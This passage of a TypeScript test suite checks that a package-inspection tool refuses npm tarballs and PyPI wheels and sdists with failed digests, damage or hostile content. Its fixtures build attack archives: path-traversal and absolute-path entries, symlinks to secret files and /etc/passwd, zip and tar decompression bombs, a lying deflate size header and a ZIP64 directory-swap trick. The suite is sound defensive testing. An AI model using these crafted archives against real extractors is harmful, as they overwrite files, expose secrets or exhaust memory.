  it.each([
    [
      'a sha512 of another tarball',
      { integrity: sri(other) },
      /integrity check failed: tarball sha512/
    ],
    [
      'a downgrade: a matching sha1 beside a wrong sha512',
      { integrity: `${sri(tgz, 'sha1')} ${sri(other)}` },
      /integrity check failed: tarball sha512/
    ],
    [
      'only a shasum, of another tarball',
      { shasum: createHash('sha1').update(other).digest('hex') },
      /does not match the registry's dist\.shasum/
    ],
    ['no digest at all', { noDigest: true }, /cannot be verified/],
    ['a malformed integrity string', { integrity: 'sha512-!!!not base64!!!' }, /cannot be verified/]
  ])('refuses %s', async (_label, options: PublishOptions, why) => {
    const graded = await gradeTarball(tgz, options)
    expectRefused(graded, why)
  })

  it('never reads a tarball before its digest is checked', async () => {
    nock(REGISTRY)
      .get('/x.tgz')
      .reply(200, tgzOf([...basePackage(), { path: 'package/../../outside/p', content: 'x' }]))
    const http = new HttpClient({ retries: 0, sleep: async () => undefined })
    const { value: error } = await contained(() =>
      fetchPackageFiles(http, { tarball: `${REGISTRY}/x.tgz`, integrity: sri(other) }).catch(
        (e: unknown) => e
      )
    )
    expect(error).toMatchObject({ name: 'TarballError', kind: 'integrity' })
  })
})

// ── damaged archives ──────────────────────────────────────────────────────────────────────────

describe('damaged archives', () => {
  const good = tgzOf([
    ...basePackage(),
    { path: 'package/data.bin', content: Buffer.alloc(50_000, 'q') }
  ])

  it.each([
    ['truncated gzip', good.subarray(0, Math.floor(good.length / 2)), /cannot be read|damaged/],
    ['not a tarball', Buffer.from('<html>502 Bad Gateway</html>'.repeat(40)), /damaged/],
    ['an empty body', Buffer.alloc(0), /damaged/],
    [
      'headers with bad checksums only',
      tgzOf([{ path: 'package/package.json', content: '{}', badChecksum: true }]),
      /damaged/
    ]
  ])('refuses %s', async (_label, body, why) => {
    const graded = await gradeTarball(body)
    expectRefused(graded, why)
  })
})

// ── PyPI: wheels and sdists ───────────────────────────────────────────────────────────────────

describe('hostile wheels', () => {
  const METADATA = 'Metadata-Version: 2.4\nName: demo-mcp\nVersion: 1.0.0\n'

  it('refuses ../, absolute and drive paths, symlinks and devices; nothing written', async () => {
    const zip = zipOf([
      { name: 'demo_mcp/__init__.py', content: '' },
      { name: 'demo_mcp-1.0.0.dist-info/METADATA', content: METADATA },
      { name: '../../outside/pwned.py', content: 'PWNED' },
      { name: `${sandbox.outside}/abs.py`, content: 'PWNED' },
      { name: 'C:\\evil.py', content: 'PWNED' },
      { name: 'demo_mcp/secret', content: sandbox.secretPath, mode: 0o120777 },
      { name: 'demo_mcp/tty', mode: 0o020666 }
    ])
    const { value: files } = await contained(async () => readWheelFiles(zip))
    expect(files.stopped).toBeNull()
    expect(files.skipped.map((s) => s.reason)).toEqual([
      'parent-segment',
      'absolute-path',
      'absolute-path',
      'symlink',
      'unsupported-type'
    ])
    expect([...files.files.keys()]).toEqual([
      'demo_mcp/__init__.py',
      'demo_mcp-1.0.0.dist-info/METADATA'
    ])
    expectSecretNotRead(files)
  })

  it('refuses a zip bomb by its declared sizes before inflating anything', async () => {
    const gib = deflateRepeated([{ data: Buffer.alloc(MIB), times: 1024 }])
    const zip = zipOf([{ name: 'demo_mcp/zeros.py', deflated: gib }])
    const { value: files, ms, rssGrowth } = await contained(async () => readWheelFiles(zip))
    expect(files.stopped?.reason).toBe('unpacked-size')
    expect(files.unpackedBytes).toBe(0)
    expectBounded({ ms, rssGrowth })
  })

  it('refuses a member that inflates past its declared size (a lying header), at once', async () => {
    // one DEFLATE stream with no stored block: fflate used to inflate it all into nowhere
    // (2 s per 512 MiB, and a grade); node:zlib stops at the declared size
    const zeros = deflateRawSync(Buffer.alloc(64 * MIB), { level: 9 })
    const zip = zipOf([
      { name: 'demo_mcp-1.0.0.dist-info/METADATA', content: METADATA },
      {
        name: 'demo_mcp/__init__.py',
        deflated: { deflated: zeros, crc: 0, length: 64 * MIB },
        declaredSize: 1024
      }
    ])
    const { value: files, ms } = await contained(async () => readWheelFiles(zip))
    expect(files.stopped).toMatchObject({ reason: 'corrupt' })
    expect(files.files.size).toBe(0)
    expect(ms).toBeLessThan(200)
  })

  it('reads the directory it checked: a ZIP64 record pointing at another one changes nothing', async () => {
    // before: fflate honoured the ZIP64 end record and inflated the hostile directory's 1 GiB
    // member (RSS +1 GiB) under the name the classic directory had declared as 16 bytes
    const benign = zipOf([{ name: 'demo_mcp/__init__.py', content: 'print("benign")\n' }])
    const hostile = zipOf([
      {
        name: 'demo_mcp/__init__.py',
        deflated: deflateRepeated([
          { data: Buffer.from('print("hostile")\n') },
          { data: Buffer.alloc(MIB), times: 1024 }
        ])
      }
    ])
    const zip = zip64Differential(benign, hostile)
    const { value: files, ms, rssGrowth } = await contained(async () => readWheelFiles(zip))
    expect(files.files.get('demo_mcp/__init__.py')?.toString()).toBe('print("benign")\n')
    expectBounded({ ms, rssGrowth })
    expect(rssGrowth).toBeLessThan(64 * MIB)
  })

  it('download + read: a wheel bomb and an sdist bomb stop, a mismatched digest is refused', async () => {
    const files = 'https://files.test'
    const entry = (filename: string, body: Buffer, sha256?: string) =>
      DistributionFileSchema.parse({
        filename,
        url: `${files}/${filename}`,
        packagetype: filename.endsWith('.whl') ? 'bdist_wheel' : 'sdist',
        python_version: 'py3',
        requires_python: null,
        digests: { sha256: sha256 ?? createHash('sha256').update(body).digest('hex') },
        upload_time_iso_8601: '2026-03-02T10:11:12Z',
        upload_time: '2026-03-02T10:11:12',
        yanked: false,
        yanked_reason: null
      })
    const http = new HttpClient({ retries: 0, sleep: async () => undefined })
    const wheel = zipOf([
      {
        name: 'demo_mcp/zeros.py',
        deflated: deflateRepeated([{ data: Buffer.alloc(MIB), times: 1024 }])
      }
    ])
    const sdist = tarBomb({
      lead: [{ path: 'demo_mcp-1.0.0/PKG-INFO', content: METADATA }],
      header: { path: 'demo_mcp-1.0.0/link', type: TYPE.symlink, linkpath: '/etc/passwd' },
      unit: compressibleMiB(),
      times: 10240
    }).tgz
    nock(files)
      .get('/demo_mcp-1.0.0-py3-none-any.whl')
      .reply(200, wheel)
      .get('/demo_mcp-1.0.0.tar.gz')
      .reply(200, sdist)
      .get('/demo_mcp-1.0.1.tar.gz')
      .reply(200, sdist)
    const read = await contained(() =>
      fetchDistributionFiles(http, [entry('demo_mcp-1.0.0-py3-none-any.whl', wheel)])
    )
    expect(read.value.files.stopped?.reason).toBe('unpacked-size')
    const readSdist = await contained(() =>
      fetchDistributionFiles(http, [entry('demo_mcp-1.0.0.tar.gz', sdist)])
    )
    expect(readSdist.value.files.stopped?.reason).toBe('unpacked-size')
    expectBounded(readSdist)
    const mismatch = await fetchDistributionFiles(http, [
      entry('demo_mcp-1.0.1.tar.gz', sdist, '0'.repeat(64))
    ]).catch((e: unknown) => e)
    expect(mismatch).toMatchObject({ name: 'DistributionError', kind: 'integrity' })
  })
})
